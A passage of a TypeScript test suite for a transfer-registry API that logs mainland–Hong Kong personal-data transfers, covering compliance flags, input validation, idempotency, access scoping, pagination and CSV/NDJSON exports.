import type { Page } from '../../src/common/pagination';
import { RequestActivity } from '../../src/common/request-activity';
import { borrowClient, exportCopy } from '../../src/database/copy';
import type { TransferView } from '../../src/transfers/transfer.dto';
import { bearer, createOrganisation, TestApp } from '../support/app';
import { fileContract, Parties, startWithContract, startWithParties } from '../contracts/fixtures';
import { holdLedgerLock, parseCsv, postTransfers, transferRecord, treeSize } from './support';

/**
 * Rows of the log. `leaves` counts the rows whose stored leaf hash is SHA-256(0x00 ‖ leaf) of their
 * stored leaf bytes (RFC 9162 §2.1), so `leaves === records` checks every row's leaf and hash agree.
 */
async function rowCounts(t: TestApp): Promise<{ leaves: number; records: number; nodes: number }> {
  const [row] = await t.dataSource.query(
    `SELECT (SELECT count(*) FROM transfer_records WHERE leaf_hash = sha256('\\x00'::bytea || leaf))::int AS leaves,
            (SELECT count(*) FROM transfer_records)::int AS records,
            (SELECT count(*) FROM ledger_nodes)::int AS nodes`,
  );
  return row;
}

describe('POST /transfers', () => {
  let t: TestApp;
  let p: Parties;
  let contractId: string;

  beforeAll(async () => ({ t, p, contractId } = await startWithContract()));
  afterAll(async () => t?.close());

  it('appends a clean record and answers its leaf index and no flags', async () => {
    const before = await treeSize(t);
    const res = await postTransfers(t, p.mainland, [transferRecord(contractId), transferRecord(contractId)]);
    expect(res.status).toBe(201);
    expect(res.body).toEqual({
      records: [
        { leafIndex: before, flags: [] },
        { leafIndex: before + 1, flags: [] },
      ],
    });
    // The recipient party logs too (either party's users, docs/api.md#transfer-log).
    const fromRecipient = await postTransfers(t, p.hongKong, [transferRecord(contractId)]);
    expect(fromRecipient.status).toBe(201);
    expect(fromRecipient.body.records[0].leafIndex).toBe(before + 2);
  });

  it('stores the leaf as the RFC 8785 canonical JSON of the stored record, flags and recordedAt included', async () => {
    const record = transferRecord(contractId, {
      occurredAt: '2025-01-25T11:00:00+08:00',
      payloadDigest: 'AB'.repeat(32),
      purposes: ['credit assessment', 'other thing'],
    });
    const res = await postTransfers(t, p.mainland, [record]);
    const { leafIndex, flags } = res.body.records[0];
    expect(flags).toEqual(['PURPOSE_NOT_IN_SCOPE']);
    const entries = await t.http.get(`/ledger/entries?start=${leafIndex}&end=${leafIndex + 1}`).set(...bearer(p.gdCac));
    const leafText = Buffer.from(entries.body.entries[0].leaf, 'base64').toString('utf8');
    const leaf = JSON.parse(leafText);
    expect(leaf).toMatchObject({
      schema: 'gba-registry.transfer-record.v1',
      contractId,
      contractVersion: 1,
      processorId: p.mainlandId,
      recipientId: p.hongKongId,
      occurredAt: '2025-01-25T03:00:00.000Z',
      payloadDigest: 'ab'.repeat(32),
      flags: ['PURPOSE_NOT_IN_SCOPE'],
      onwardRecipient: null,
    });
    expect(Date.parse(leaf.recordedAt)).toBeGreaterThan(Date.now() - 60_000);
    // Canonical: sorted members, no whitespace.
    const keys = Object.keys(leaf);
    expect(keys).toEqual([...keys].sort());
    expect(leafText).toBe(JSON.stringify(leaf));
  });

  describe('compliance flags: well-formed records that break the contract are appended, flagged', () => {
    const SHORT = 'the short contract';
    const LONG = 'the long contract';
    const IN_AN_HOUR = new Date(Date.now() + 3600_000).toISOString();
    let shortContractId: string;
    let longContractId: string;
    beforeAll(async () => {
      shortContractId = (await fileContract(t, p, { expiryDate: '2025-06-30', annex: { retentionPeriod: { from: '2025-01-24', to: '2025-12-31' } } })).id;
      longContractId = (await fileContract(t, p, { expiryDate: '2099-12-31', annex: { retentionPeriod: { from: '2025-01-24', to: '2099-12-31' } } })).id;
    });
    // [the flag the case is about, the record's overrides, every flag the record must get: no more, no fewer]
    const cases: Array<[string, Record<string, unknown>, string[]]> = [
      ['CONTRACT_NOT_EFFECTIVE', { occurredAt: '2025-01-20T03:00:00Z' }, ['CONTRACT_NOT_EFFECTIVE']],
      // Past expiry the filings (never submitted here) are overdue too. Under the short contract (expired
      // 2025-06-30, retention to 2025-12-31), so the records are not dated after the moment they are logged.
      ['CONTRACT_EXPIRED', { occurredAt: '2025-07-01T03:00:00Z', contractId: SHORT }, ['CONTRACT_EXPIRED', 'FILING_OVERDUE']],
      ['AFTER_RETENTION_PERIOD', { occurredAt: '2026-01-05T03:00:00Z', contractId: SHORT }, ['AFTER_RETENTION_PERIOD', 'CONTRACT_EXPIRED', 'FILING_OVERDUE']],
      ['DIRECTION_MISMATCH', { direction: 'HK_TO_MAINLAND' }, ['DIRECTION_MISMATCH']],
      ['CATEGORY_NOT_IN_SCOPE', { personalInformationCategories: ['BASIC_PROFILE', 'LOCATION'] }, ['CATEGORY_NOT_IN_SCOPE']],
      // MEDICAL_HEALTH is outside the annex, and consent was obtained.
      ['SENSITIVE_NOT_IN_SCOPE', { sensitiveCategories: ['MEDICAL_HEALTH'] }, ['SENSITIVE_NOT_IN_SCOPE']],
      // FINANCIAL_ACCOUNT is in the annex: only the missing consent is flagged.
      [
        'SENSITIVE_WITHOUT_SEPARATE_CONSENT',
        { sensitiveCategories: ['FINANCIAL_ACCOUNT'], separateConsentObtained: false },
        ['SENSITIVE_WITHOUT_SEPARATE_CONSENT'],
      ],
      ['PURPOSE_NOT_IN_SCOPE', { purposes: ['marketing'] }, ['PURPOSE_NOT_IN_SCOPE']],
      ['METHOD_NOT_IN_SCOPE', { transferMethod: 'USB stick by courier' }, ['METHOD_NOT_IN_SCOPE']],
      // The annex lists this recipient in GUANGZHOU, so in BEIJING it is also not the annex's recipient.
      [
        'ONWARD_RECIPIENT_OUTSIDE_GBA',
        { onwardRecipient: { name: 'Bay Credit Reference Centre', city: 'BEIJING' } },
        ['ONWARD_RECIPIENT_NOT_IN_ANNEX', 'ONWARD_RECIPIENT_OUTSIDE_GBA'],
      ],
      ['ONWARD_RECIPIENT_NOT_IN_ANNEX', { onwardRecipient: { name: 'Someone Else Ltd', city: 'GUANGZHOU' } }, ['ONWARD_RECIPIENT_NOT_IN_ANNEX']],
      ['FILING_OVERDUE', { occurredAt: '2025-03-03T03:00:00Z' }, ['FILING_OVERDUE']],
      // Before the PIPIA (2025-01-10) is also before the contract took effect (2025-01-24).
      ['PIPIA_AFTER_TRANSFER', { occurredAt: '2025-01-05T03:00:00Z' }, ['CONTRACT_NOT_EFFECTIVE', 'PIPIA_AFTER_TRANSFER']],
      // An hour after the moment it is logged: kept as it came, flagged (the allowance for clock drift is five
      // minutes). Under the long contract (to 2099), whose filings, never submitted, are overdue by then.
      ['OCCURRED_IN_FUTURE', { occurredAt: IN_AN_HOUR, contractId: LONG }, ['FILING_OVERDUE', 'OCCURRED_IN_FUTURE']],
    ];
    it.each(cases)('%s', async (flag, overrides, expected) => {
      expect(expected).toContain(flag);
      const before = await rowCounts(t);
      const { contractId: which, ...rest } = overrides;
      const res = await postTransfers(t, p.mainland, [transferRecord(which === SHORT ? shortContractId : which === LONG ? longContractId : contractId, rest)]);
      expect(res.status).toBe(201);
      expect(res.body.records[0].flags).toEqual(expected);
      const after = await rowCounts(t);
      expect(after.records).toBe(before.records + 1);
      expect(after.leaves).toBe(after.records);
      const [stored] = await t.dataSource.query('SELECT flags, leaf FROM transfer_records WHERE leaf_index = $1', [res.body.records[0].leafIndex]);
      expect(stored.flags).toEqual(expected);
      expect(JSON.parse(stored.leaf.toString('utf8')).flags).toEqual(expected);
    });

    it('a clean record in an onward recipient the annex lists has none', async () => {
      const res = await postTransfers(t, p.mainland, [
        transferRecord(contractId, { onwardRecipient: { name: 'bay credit  reference centre', city: 'GUANGZHOU' } }),
      ]);
      expect(res.body.records[0].flags).toEqual([]);
    });

    it('CONTRACT_TERMINATED, and the cached scope is invalidated by the termination', async () => {
      const other = (await fileContract(t, p)).id;
      const record = () => transferRecord(other, { occurredAt: '2025-01-27T03:00:00Z' });
      const before = await postTransfers(t, p.mainland, [record()]);
      expect(before.body.records[0].flags).toEqual([]);
      const terminated = await t.http
        .post(`/contracts/${other}/terminate`)
        .set(...bearer(p.mainland))
        .send({ terminatedOn: '2025-01-26', reason: 'business ended' });
      expect([200, 201]).toContain(terminated.status);
      const after = await postTransfers(t, p.mainland, [record()]);
      expect(after.body.records[0].flags).toEqual(['CONTRACT_TERMINATED']);
    });

    it('CONTRACT_TERMINATED when the termination commits after the batch was prepared, before it is appended', async () => {
      const other = (await fileContract(t, p)).id;
      const record = () => transferRecord(other, { occurredAt: '2025-01-27T03:00:00Z' });
      // The scope of `other` is cached at its current revision.
      expect((await postTransfers(t, p.mainland, [record()])).body.records[0].flags).toEqual([]);
      // Flags and leaves are prepared from the cached scope; the request then waits at the ledger's door (its lock,
      // held here as a slow commit would hold it) while the termination commits on another connection.
      const failedExpectations = async () =>
        Number(/^registry_transfer_groups_total\{path="expectation_failed"\} (\d+)$/m.exec((await t.http.get('/metrics')).text)?.[1] ?? 0);
      const failedBefore = await failedExpectations();
      const lock = await holdLedgerLock(t);
      try {
        const pending = postTransfers(t, p.mainland, [record(), transferRecord(contractId), transferRecord(other, { occurredAt: '2025-01-25T03:00:00Z' })]);
        await lock.groupBlocked();
        const terminated = await t.http
          .post(`/contracts/${other}/terminate`)
          .set(...bearer(p.hongKong))
          .send({ terminatedOn: '2025-01-26', reason: 'business ended' });
        const terminatedStatus = terminated.status;
        await lock.release();
        const res = await pending;
        expect([200, 201]).toContain(terminatedStatus);
        expect(res.status).toBe(201);
        // The group was sent expecting the revision its flags were computed from; PostgreSQL refused it, and it was read and rebuilt.
        expect((await failedExpectations()) - failedBefore).toBe(1);
        // Only the record on or after the termination date, of the terminated contract, is flagged.
        expect(res.body.records.map((r: { flags: string[] }) => r.flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
        const first = res.body.records[0].leafIndex;
        const stored = await t.dataSource.query('SELECT flags, leaf FROM transfer_records WHERE leaf_index >= $1 AND leaf_index < $2 ORDER BY leaf_index', [
          first,
          first + 3,
        ]);
        expect(stored.map((r: { flags: string[] }) => r.flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
        // The signed leaf carries the flags too, and its hash matches it.
        expect(stored.map((r: { leaf: Buffer }) => JSON.parse(r.leaf.toString('utf8')).flags)).toEqual([['CONTRACT_TERMINATED'], [], []]);
        const counts = await rowCounts(t);
        expect(counts.leaves).toBe(counts.records);
      } finally {
        await lock.release();
      }
    });
  });

  it('logs through a service account (ORG_SYSTEM)', async () => {
    const orgAdmin = await t.user('ORG_ADMIN', { organisationId: p.mainlandId });
    const sa = await t.http
      .post(`/organisations/${p.mainlandId}/service-accounts`)
      .set(...bearer(orgAdmin.token))
      .send({});
    expect(sa.status).toBe(201);
    const token = await t.http.post('/auth/token').send({ grantType: 'client_credentials', clientId: sa.body.clientId, clientSecret: sa.body.clientSecret });
    const res = await postTransfers(t, token.body.accessToken, [transferRecord(contractId)]);
    expect(res.status).toBe(201);
    const [row] = await t.dataSource.query('SELECT submitted_by_organisation_id FROM transfer_records WHERE leaf_index = $1', [res.body.records[0].leafIndex]);
    expect(row.submitted_by_organisation_id).toBe(p.mainlandId);
  });

  it('counts logged records in the rollout figures per regime, processor sector and side, and refused batches not at all', async () => {
    const [{ sector, processor_jurisdiction: side }] = await t.dataSource.query(
      'SELECT sector, processor_jurisdiction FROM transfer_records WHERE contract_id = $1 LIMIT 1',
      [contractId],
    );
    const counted = async (): Promise<number> => {
      const res = await t.http.get('/rollout/stats').query({ regime: 'GBA_MAINLAND_HK' });
      expect(res.status).toBe(200);
      const sectors: Array<{ sector: string; jurisdiction: string; transferRecords: number }> = res.body.sectors;
      return sectors.find((r) => r.sector === sector && r.jurisdiction === side)?.transferRecords ?? 0;
    };
    const before = await counted();
    // Both parties log; the figures count the processor's sector and side either way.
    expect((await postTransfers(t, p.mainland, [transferRecord(contractId), transferRecord(contractId), transferRecord(contractId)])).status).toBe(201);
    expect((await postTransfers(t, p.hongKong, [transferRecord(contractId)])).status).toBe(201);
    expect(await counted()).toBe(before + 4);
    // A malformed batch and a batch for a foreign contract append nothing and count nothing.
    expect((await postTransfers(t, p.mainland, [transferRecord(contractId), transferRecord(contractId, { direction: 'SIDEWAYS' })])).status).toBe(400);
    expect((await postTransfers(t, p.outsider, [transferRecord(contractId)])).status).toBe(404);
    // A replay appends nothing and counts nothing.
    const key = `rollout-${Date.now()}`;
    const records = [transferRecord(contractId), transferRecord(contractId)];
    expect((await postTransfers(t, p.mainland, records, key)).status).toBe(201);
    expect((await postTransfers(t, p.mainland, records, key)).status).toBe(201);
    expect(await counted()).toBe(before + 6);
  });

  describe('refusals append nothing', () => {
    it('400 names records[i].field for a malformed record', async () => {
      const before = await rowCounts(t);
      const res = await postTransfers(t, p.mainland, [
        transferRecord(contractId),
        transferRecord(contractId, { direction: 'SIDEWAYS', payloadDigest: 'xyz', personalInformationCategories: ['NOT_A_CATEGORY'], extra: 1 }),
      ]);
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
      const fields = res.body.errors.map((e: { field: string }) => e.field);
      expect(fields).toEqual(
        expect.arrayContaining(['records[1].direction', 'records[1].payloadDigest', 'records[1].personalInformationCategories', 'records[1].extra']),
      );
      expect(fields.some((f: string) => f.startsWith('records[0]'))).toBe(false);
      expect(await rowCounts(t)).toEqual(before);
    });

    it('400 for an empty batch, a batch over 10,000, and a local time without offset', async () => {
      expect((await postTransfers(t, p.mainland, [])).status).toBe(400);
      const tooMany = await postTransfers(
        t,
        p.mainland,
        Array.from({ length: 10_001 }, () => transferRecord(contractId)),
      );
      expect(tooMany.status).toBe(400);
      const local = await postTransfers(t, p.mainland, [transferRecord(contractId, { occurredAt: '2025-01-25T03:00:00' })]);
      expect(local.status).toBe(400);
      expect(local.body.errors[0].field).toBe('records[0].occurredAt');
    });

    it('400 naming records[i].occurredAt for an instant outside years 0001–9999 (PostgreSQL has no year 0)', async () => {
      const before = await rowCounts(t);
      for (const occurredAt of ['0001-01-01T00:00:00+08:00', '0000-01-01T00:00:00Z', '9999-12-31T23:00:00-08:00']) {
        const res = await postTransfers(t, p.mainland, [transferRecord(contractId), transferRecord(contractId, { occurredAt })]);
        expect(res.status).toBe(400);
        expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
        expect(res.body.errors).toEqual([expect.objectContaining({ field: 'records[1].occurredAt', rule: 'instantRange' })]);
      }
      expect(await rowCounts(t)).toEqual(before);
    });

    it('400 naming the field for an unpaired surrogate in any free-text field', async () => {
      const before = await rowCounts(t);
      const cases: Array<[string, Record<string, unknown>]> = [
        ['records[0].transferMethod', { transferMethod: 'encrypted \uD800 API' }],
        ['records[0].purposes', { purposes: ['credit assessment', 'x\uDC00'] }],
        ['records[0].externalReference', { externalReference: 'ref-\uD83D' }],
        ['records[0].onwardRecipient.name', { onwardRecipient: { name: '\uDE00Bay Credit Reference Centre', city: 'GUANGZHOU' } }],
      ];
      for (const [field, overrides] of cases) {
        const res = await postTransfers(t, p.mainland, [transferRecord(contractId, overrides)]);
        expect(res.status).toBe(400);
        expect(res.body.errors).toEqual([expect.objectContaining({ field, rule: 'isCleanText' })]);
      }
      expect(await rowCounts(t)).toEqual(before);
    });

    it('400 naming the field for a NUL character in any free-text field (refused before validation; the parser refuses it too)', async () => {
      const before = await rowCounts(t);
      const cases: Array<[string, Record<string, unknown>]> = [
        ['records[0].transferMethod', { transferMethod: 'a\u0000b' }],
        ['records[0].purposes[1]', { purposes: ['credit assessment', '\u0000'] }],
        ['records[0].externalReference', { externalReference: 'ref\u0000' }],
        ['records[0].onwardRecipient.name', { onwardRecipient: { name: 'Bay\u0000', city: 'GUANGZHOU' } }],
      ];
      for (const [field, overrides] of cases) {
        const res = await postTransfers(t, p.mainland, [transferRecord(contractId, overrides)]);
        expect(res.status).toBe(400);
        expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
        expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual([field]);
      }
      expect(await rowCounts(t)).toEqual(before);
    });

    it('404 for the whole request when one contract is not the caller’s, or unknown', async () => {
      const before = await rowCounts(t);
      const res = await postTransfers(t, p.outsider, [transferRecord(contractId)]);
      expect(res.status).toBe(404);
      const mixed = await postTransfers(t, p.mainland, [transferRecord(contractId), transferRecord('6f1c1a4e-0000-4000-8000-000000000000')]);
      expect(mixed.status).toBe(404);
      expect(await rowCounts(t)).toEqual(before);
    });

    it('403 for regulators and administrators: they audit, they do not log', async () => {
      expect((await postTransfers(t, p.gdCac, [transferRecord(contractId)])).status).toBe(403);
      expect((await postTransfers(t, t.adminToken, [transferRecord(contractId)])).status).toBe(403);
    });
  });

  describe('Idempotency-Key', () => {
    it('replays the first response for the same key and body, in any member order', async () => {
      const records = [transferRecord(contractId), transferRecord(contractId, { purposes: ['marketing'] })];
      const first = await postTransfers(t, p.mainland, records, 'key-replay-1');
      expect(first.status).toBe(201);
      const before = await rowCounts(t);
      const reordered = records.map((r) => Object.fromEntries(Object.entries(r).reverse()));
      const again = await postTransfers(t, p.mainland, reordered, 'key-replay-1');
      expect(again.status).toBe(201);
      expect(again.headers['idempotent-replayed']).toBe('true');
      expect(again.body).toEqual(first.body);
      expect(await rowCounts(t)).toEqual(before);
    });

    it('409 IDEMPOTENCY_KEY_REUSED for the same key with another body', async () => {
      await postTransfers(t, p.mainland, [transferRecord(contractId)], 'key-conflict-1');
      const before = await rowCounts(t);
      const res = await postTransfers(t, p.mainland, [transferRecord(contractId)], 'key-conflict-1');
      expect(res.status).toBe(409);
      expect(res.body.code).toBe('IDEMPOTENCY_KEY_REUSED');
      expect(await rowCounts(t)).toEqual(before);
    });

    it('scopes keys by organisation', async () => {
      const a = await postTransfers(t, p.mainland, [transferRecord(contractId)], 'shared-key');
      const b = await postTransfers(t, p.hongKong, [transferRecord(contractId)], 'shared-key');
      expect(a.status).toBe(201);
      expect(b.status).toBe(201);
      expect(b.body.records[0].leafIndex).not.toBe(a.body.records[0].leafIndex);
    });

    it('concurrent retries with one key append once', async () => {
      const records = [transferRecord(contractId), transferRecord(contractId)];
      const before = await rowCounts(t);
      const responses = await Promise.all(Array.from({ length: 4 }, () => postTransfers(t, p.mainland, records, 'key-race-1')));
      expect(responses.map((r) => r.status)).toEqual([201, 201, 201, 201]);
      for (const r of responses) expect(r.body).toEqual(responses[0].body);
      expect((await rowCounts(t)).records).toBe(before.records + 2);
    });
  });
});

describe('GET /transfers, export and summary', () => {
  let t: TestApp;
  let p: Parties;
  let contractA: string;
  let contractB: string;
  let thirdParty: { id: string; token: string };
  const N = 230;

  beforeAll(async () => {
    ({ t, p } = await startWithParties());
    contractA = (await fileContract(t, p)).id;
    contractB = (await fileContract(t, p)).id;
    // A third organisation with its own contract, which p's parties must not see.
    const otherMainland = await createOrganisation(t, { jurisdiction: 'MAINLAND', city: 'ZHUHAI' });
    const otherHk = await createOrganisation(t, { jurisdiction: 'HONG_KONG' });
    const filer = await t.user('ORG_FILER', { organisationId: otherMainland });
    thirdParty = { id: otherMainland, token: filer.token };
    const third = await t.http
      .post('/contracts')
      .set(...bearer(filer.token))
      .send({ ...(await import('../contracts/fixtures')).contractBody(otherMainland, otherHk) });
    expect(third.status).toBe(201);
    const records = Array.from({ length: N }, (_, i) =>
      transferRecord(i % 2 ? contractB : contractA, {
        occurredAt: new Date(Date.UTC(2025, 0, 25, 0, i)).toISOString(),
        purposes: i % 10 === 0 ? ['marketing'] : ['credit assessment'],
        personalInformationCategories: i % 3 === 0 ? ['BASIC_PROFILE', 'PROPERTY_FINANCIAL'] : ['BASIC_PROFILE'],
        externalReference: `ref "${i}", with comma\nand newline \\ backslash 灣區`,
      }),
    );
    expect((await postTransfers(t, p.mainland, records)).status).toBe(201);
    expect((await postTransfers(t, filer.token, [transferRecord(third.body.id)])).status).toBe(201);
  });
  afterAll(async () => t?.close());

  async function pageAll(token: string, query: string): Promise<TransferView[]> {
    const items: TransferView[] = [];
    let cursor: string | null = null;
    do {
      const res: { status: number; body: Page<TransferView> } = await t.http
        .get(`/transfers?${query}&limit=37${cursor ? `&cursor=${cursor}` : ''}`)
        .set(...bearer(token));
      expect(res.status).toBe(200);
      items.push(...res.body.items);
      cursor = res.body.nextCursor;
    } while (cursor);
    return items;
  }

  it('pages a contract in (occurredAt, leafIndex) order with cursors', async () => {
    const items = await pageAll(p.gdCac, `contractId=${contractA}`);
    expect(items).toHaveLength(N / 2);
    expect(items.every((i) => i.contractId === contractA)).toBe(true);
    const keys = items.map((i) => `${i.occurredAt}|${String(i.leafIndex).padStart(10, '0')}`);
    expect(keys).toEqual([...keys].sort());
    expect(items[0]).toMatchObject({ processorId: p.mainlandId, recipientId: p.hongKongId, direction: 'MAINLAND_TO_HK', sector: 'BANKING' });
  });

  it('filters by flag, category, direction, time range, organisation and sector', async () => {
    expect(await pageAll(p.hkDpo, 'flag=PURPOSE_NOT_IN_SCOPE')).toHaveLength(N / 10);
    expect(await pageAll(p.hkDpo, 'category=PROPERTY_FINANCIAL')).toHaveLength(Math.ceil(N / 3));
    expect(await pageAll(p.hkDpo, 'direction=HK_TO_MAINLAND')).toHaveLength(0);
    const range = await pageAll(p.hkDpo, `from=2025-01-25T01:00:00Z&to=2025-01-25T02:00:00Z`);
    expect(range).toHaveLength(60);
    expect(await pageAll(p.hkDpo, `organisationId=${p.hongKongId}`)).toHaveLength(N);
    expect(await pageAll(p.hkDpo, `sector=HEALTHCARE`)).toHaveLength(0);
    expect(await pageAll(t.adminToken, 'sector=BANKING')).toHaveLength(N + 1);
  });

  it('filters flagged or clean records only, in the list and the export', async () => {
    // Every tenth record has a purpose outside the annex; the rest are clean.
    const flagged = await pageAll(p.hkDpo, `contractId=${contractA}&flagged=true`);
    expect(flagged).toHaveLength(N / 10);
    expect(flagged.every((i) => i.flags.length > 0)).toBe(true);
    const keys = flagged.map((i) => `${i.occurredAt}|${String(i.leafIndex).padStart(10, '0')}`);
    expect(keys).toEqual([...keys].sort());
    const clean = await pageAll(p.hkDpo, `contractId=${contractA}&flagged=false`);
    expect(clean).toHaveLength(N / 2 - N / 10);
    expect(clean.every((i) => i.flags.length === 0)).toBe(true);
    expect(await pageAll(p.hkDpo, 'flagged=true')).toHaveLength(N / 10);
    const exported = await t.http.get('/transfers/export?format=ndjson&flagged=true').set(...bearer(p.gdCac));
    expect(exported.status).toBe(200);
    const rows = exported.text
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows).toHaveLength(N / 10);
    expect(rows.every((r) => r.flags.includes('PURPOSE_NOT_IN_SCOPE'))).toBe(true);
    expect((await t.http.get('/transfers?flagged=yes').set(...bearer(p.hkDpo))).status).toBe(400);
  });

  it('from/to: RFC 3339 instants with an offset and YYYY-MM-DD dates (00:00 in the GBA)', async () => {
    expect(await pageAll(p.hkDpo, `from=2025-01-25T09:00:00%2B08:00&to=2025-01-25T10:00:00.000%2B08:00`)).toHaveLength(60);
    // Every record is on 2025-01-25 in the GBA (08:00 to 11:49, UTC+8).
    expect(await pageAll(p.hkDpo, `from=2025-01-25&to=2025-01-26&organisationId=${p.mainlandId}`)).toHaveLength(N);
    expect(await pageAll(p.hkDpo, `to=2025-01-25&organisationId=${p.mainlandId}`)).toHaveLength(0);
  });

  it('400 problem+json naming from or to for anything else, in the list and both exports (PostgreSQL refused some: 500s)', async () => {
    const bad = [
      '2025',
      '2025-01',
      '2025-W01',
      '2025-W01-1',
      '2025-032',
      '2025-01-01T10',
      '2025-01-01T10:00',
      '2025-01-01T10:00:00',
      '2025-02-30',
      '0000-01-01',
      '20250101',
    ];
    for (const value of bad) {
      for (const field of ['from', 'to']) {
        for (const path of ['/transfers?', '/transfers/export?format=ndjson&', '/transfers/export?format=csv&']) {
          const res = await t.http.get(`${path}${field}=${encodeURIComponent(value)}`).set(...bearer(p.hkDpo));
          expect({ value, field, path, status: res.status }).toEqual({ value, field, path, status: 400 });
          expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
          expect(res.body.errors.map((e: { field: string }) => e.field)).toEqual([field]);
        }
      }
    }
  });

  it('parties see their own transfers only', async () => {
    expect(await pageAll(p.hongKong, 'direction=MAINLAND_TO_HK')).toHaveLength(N);
    expect(await pageAll(p.outsider, 'direction=MAINLAND_TO_HK')).toHaveLength(0);
    expect(await pageAll(thirdParty.token, 'direction=MAINLAND_TO_HK')).toHaveLength(1);
  });

  it('exports N rows as ndjson, each with its leaf index and exact leaf', async () => {
    const res = await t.http.get(`/transfers/export?format=ndjson&organisationId=${p.mainlandId}`).set(...bearer(p.gdCac));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/application\/x-ndjson/);
    const lines = res.text.trimEnd().split('\n');
    expect(lines).toHaveLength(N);
    const rows = lines.map((l) => JSON.parse(l));
    expect(rows.map((r) => r.leafIndex)).toEqual([...rows.map((r) => r.leafIndex)].sort((a, b) => a - b));
    const leaf = JSON.parse(Buffer.from(rows[0].leaf, 'base64').toString('utf8'));
    expect(leaf.externalReference).toBe(rows[0].externalReference);
    expect(rows[0].externalReference).toContain('灣區');
  });

  it('notes the export as request activity while it streams, so the self-audit gives way to it', async () => {
    const activity = t.app.get(RequestActivity);
    const streaming = jest.spyOn(activity, 'streaming');
    try {
      const res = await t.http.get(`/transfers/export?format=ndjson&organisationId=${p.mainlandId}`).set(...bearer(p.gdCac));
      expect(res.status).toBe(200);
      expect(streaming).toHaveBeenCalled();
    } finally {
      streaming.mockRestore();
    }
  });

  it("runs an export's COPY in a read-only transaction without parallel workers, and gives the connection back outside it", async () => {
    const { client, release } = await borrowClient(t.dataSource);
    const settings = `SELECT current_setting('max_parallel_workers_per_gather') AS workers, current_setting('transaction_read_only') AS "readOnly"`;
    const before = (await client.query<{ workers: string; readOnly: string }>(settings)).rows[0];
    let released!: (error?: Error) => void;
    const releasedWith = new Promise<Error | undefined>((resolve) => (released = resolve));
    try {
      const copy = await exportCopy(
        client,
        `COPY (SELECT current_setting('max_parallel_workers_per_gather'), current_setting('transaction_read_only')) TO STDOUT`,
        (error) => released(error),
      );
      const chunks: Buffer[] = [];
      for await (const chunk of copy) chunks.push(chunk as Buffer);
      expect(Buffer.concat(chunks).toString()).toBe('0\ton\n');
      expect(await releasedWith).toBeUndefined();
      // COMMIT ran before the release: the connection is outside any transaction, with the pool's settings.
      expect(before.readOnly).toBe('off');
      expect(before.workers).not.toBe('0');
      expect((await client.query(settings)).rows[0]).toEqual(before);
    } finally {
      release();
    }
  });

  it('exports N rows as csv', async () => {
    const res = await t.http
      .get(`/transfers/export?format=csv&contractId=${contractB}`)
      .set(...bearer(p.mainland))
      .buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    // Quoted fields may hold newlines: count records by leafIndex at line starts.
    const text = res.text.replace(/^\uFEFF/, '');
    const header = text.slice(0, text.indexOf('\n'));
    expect(header.startsWith('leafIndex,contractId')).toBe(true);
    const records = text.slice(header.length + 1).match(/^\d+,[0-9a-f-]{36},/gm) ?? [];
    expect(records).toHaveLength(N / 2);
  });

  it('exports csv a spreadsheet opens: a UTF-8 byte-order mark, true/false, lists joined, names beside ids, Hong Kong time beside UTC', async () => {
    const res = await t.http
      .get(`/transfers/export?format=csv&contractId=${contractA}`)
      .set(...bearer(p.gdCac))
      .buffer(true)
      .parse((response, callback) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => callback(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    const bytes = res.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(rows).toHaveLength(N / 2);
    const next = (name: string) => header[header.indexOf(name) + 1];
    expect([next('processorId'), next('recipientId'), next('occurredAt')]).toEqual(['processorName', 'recipientName', 'occurredAtHongKong']);
    const cell = (row: string[], name: string) => row[header.indexOf(name)];
    const [names] = await t.dataSource.query<Array<{ processor: string; recipient: string }>>(
      'SELECT (SELECT legal_name FROM organisations WHERE id = $1) AS processor, (SELECT legal_name FROM organisations WHERE id = $2) AS recipient',
      [p.mainlandId, p.hongKongId],
    );
    // Record 0 (contract A): 2025-01-25T00:00Z, purpose "marketing" (flagged), two categories, consent obtained.
    const first = rows[0];
    expect({
      occurredAt: cell(first, 'occurredAt'),
      occurredAtHongKong: cell(first, 'occurredAtHongKong'),
      processorName: cell(first, 'processorName'),
      recipientName: cell(first, 'recipientName'),
      categories: cell(first, 'personalInformationCategories'),
      sensitive: cell(first, 'sensitiveCategories'),
      purposes: cell(first, 'purposes'),
      consent: cell(first, 'separateConsentObtained'),
      flags: cell(first, 'flags'),
      reference: cell(first, 'externalReference'),
    }).toEqual({
      occurredAt: '2025-01-25T00:00:00.000Z',
      occurredAtHongKong: '2025-01-25 08:00:00',
      processorName: names.processor,
      recipientName: names.recipient,
      categories: 'BASIC_PROFILE; PROPERTY_FINANCIAL',
      sensitive: '',
      purposes: 'marketing',
      consent: 'true',
      flags: 'PURPOSE_NOT_IN_SCOPE',
      reference: 'ref "0", with comma\nand newline \\ backslash 灣區',
    });
    // Record 2: a clean one.
    expect([cell(rows[1], 'flags'), cell(rows[1], 'purposes'), cell(rows[1], 'personalInformationCategories')]).toEqual([
      '',
      'credit assessment',
      'BASIC_PROFILE',
    ]);
  });

  it('binds a cursor to the filters it came from: replayed with other filters, or on another list, it is 400 naming cursor', async () => {
    const expectCursorRefused = async (path: string, token: string) => {
      const res = await t.http.get(path).set(...bearer(token));
      expect([path, res.status, res.headers['content-type']]).toEqual([path, 400, expect.stringMatching(/^application\/problem\+json/)]);
      expect(res.body.errors).toEqual([expect.objectContaining({ field: 'cursor' })]);
    };
    const first = await t.http
      .get(`/transfers?contractId=${contractA}&limit=10`)
      .set(...bearer(p.gdCac))
      .expect(200);
    const cursor = first.body.nextCursor as string;
    expect(typeof cursor).toBe('string');
    // The same filters (any page size) go on.
    const second = await t.http
